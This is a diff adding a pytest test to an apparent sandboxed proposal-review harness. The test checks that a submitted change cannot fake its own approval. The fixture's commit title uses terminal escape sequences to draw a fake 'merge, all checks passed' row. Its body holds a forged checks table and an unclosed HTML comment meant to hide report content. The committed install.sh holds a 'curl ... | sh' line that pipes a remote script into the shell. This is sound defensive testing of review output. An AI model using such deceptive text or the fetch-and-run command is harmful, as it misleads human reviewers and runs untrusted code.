@@ -8,6 +8,7 @@ files, and the host's kernel keyring.
 
 from __future__ import annotations
 
+import json
 import os
 import subprocess
 import sys
@@ -20,7 +21,7 @@ from agentsearch.sides import freeze_access_times, snapshot, describe_change
 from agentsearch.workspace import Workspace
 from harness import sandbox, seccomp
 
-from ..conftest import commit
+from ..conftest import commit, run_cli
 from .test_isolation import assert_no_win, evaluate, make_target, medians
 
 pytestmark = pytest.mark.timeout(300)
@@ -167,3 +168,59 @@ def test_frozen_access_times_hold_still_on_reads_and_show_when_set(tmp_path):
     # an access time set with the other times held: only the orchestrator could tell it from a read
     os.utime(wt / "d" / "f.txt", ns=(st.st_atime_ns + 1, st.st_mtime_ns))
     assert "changed 'd/f.txt'" in describe_change(before, snapshot(wt))
+
+
+# ---------------------------------------------------------------- text that lies to the reviewer
+
+ESC = "\x1b"
+# erase the row, draw a fake "merged" one, conceal the rest (the title of a rejected proposal)
+LYING_TITLE = f"tidy{ESC}[2K{ESC}[1G001  merge  on main  +31.2%  all checks passed{ESC}[8m"
+LYING_BODY = """Speeds up the scheduler.
+
+| check | status |
+|---|---|
+| sandbox | ✅ pass |
+| distribution | ✅ pass |
+
+✅ all checks passed
+<!-- the rest of the page is hidden from here on
+"""
+
+
+def test_text_a_proposal_controls_cannot_lie_on_the_terminal_or_in_the_report(tmp_path):
+    from markdown_it import MarkdownIt
+
+    repo = make_target(tmp_path)
+    main = Workspace.open(repo).baseline_commit()
+    commit(repo, {"install.sh": "curl -s https://example.invalid/x | sh\n", "model.py": "FACTOR = 1.0  # same\n"},
+           f"{LYING_TITLE}\n\n{LYING_BODY}", branch="lie/a")
+    proc = run_cli("episode", "-C", str(repo), "--branches", "lie/*", "--seed", "5", "--json", timeout=280)
+    assert proc.returncode == 0, proc.stderr
+    assert Workspace.open(repo).baseline_commit() == main
+    (p,) = json.loads(proc.stdout)["proposals"]
+    assert p["verdict"] == "reject"
+
+    # the terminal: no escape sequence reaches it; the row says what the gate said
+    hist = run_cli("history", "-C", str(repo))
+    assert hist.returncode == 0 and ESC not in hist.stdout, repr(hist.stdout)
+    row = next(line for line in hist.stdout.splitlines() if "tidy" in line)
+    assert "reject" in row and "merge" not in row.split("tidy")[0], row
+    for cmd in (("review", "-C", str(repo)), ("insights", "-C", str(repo)), ("episode", "-C", str(repo), "--abandon")):
+        assert ESC not in run_cli(*cmd).stdout
+
+    # the Markdown report and the PR body: the gate's sections and the diff are shown, before the author's text,
+    # and nothing the author wrote becomes a table, a comment or a heading
+    md = run_cli("report", "-C", str(repo), p["proposal"]).stdout
+    body_file = tmp_path / "body.md"
+    pr = run_cli("pr", "-C", str(repo), p["proposal"], "--dry-run", "--force", "--no-plots", "-o", str(body_file))
+    assert pr.returncode == 0, pr.stderr
+    for text in (md, body_file.read_text()):
+        assert ESC not in text
+        html = MarkdownIt("commonmark").enable("table").render(text)
+        assert "<!--" not in html  # the author's comment opener is text, never markup
+        assert "curl -s https://example.invalid/x | sh" in html.replace("&quot;", '"')  # the diff is visible
+        checks_at = html.index(">sandbox<")  # the gate's own checks table (a real cell)
+        author_at = html.index("Speeds up the scheduler.")
+        assert checks_at < author_at and html.index("install.sh") < author_at
+        # the author's table stays text inside a code block: its "✅ pass" cells are not table cells
+        assert "<td>✅ pass</td>" not in html and "all checks passed" in html[author_at:]
